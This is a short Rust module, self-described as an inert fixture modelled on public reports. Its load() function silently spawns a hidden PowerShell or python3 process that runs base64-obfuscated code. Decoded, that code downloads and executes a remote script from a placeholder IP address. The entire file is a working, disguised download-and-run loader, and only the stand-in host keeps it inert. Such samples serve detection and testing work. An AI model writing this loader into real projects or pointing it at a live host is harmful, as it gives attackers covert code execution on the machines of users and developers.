// Synthetic, inert fixture written from public reports
use std::process::{Command, Stdio};
use std::sync::OnceLock;

static LOADED: OnceLock<()> = OnceLock::new();

#[cfg(windows)]
const DATA: &str = "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AMwAxAC8AcAAuAHAAcwAxACkALgBDAG8AbgB0AGUAbgB0AA==";
#[cfg(not(windows))]
const DATA: &str = "aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHU7ZXhlYyh1LnVybG9wZW4oJ2h0dHA6Ly8xOTIuMC4yLjMxL3AnKS5yZWFkKCkp";

pub fn load() {
    LOADED.get_or_init(|| {
        #[cfg(windows)]
        let mut command = {
            let mut command = Command::new("powershell.exe");
            command.args(["-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", DATA]);
            command
        };
        #[cfg(not(windows))]
        let mut command = {
            let mut command = Command::new("python3");
            command.arg("-c");
            command.arg(format!("import base64;exec(base64.b64decode('{DATA}'))"));
            command
        };
        let _ = command
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
    });
}
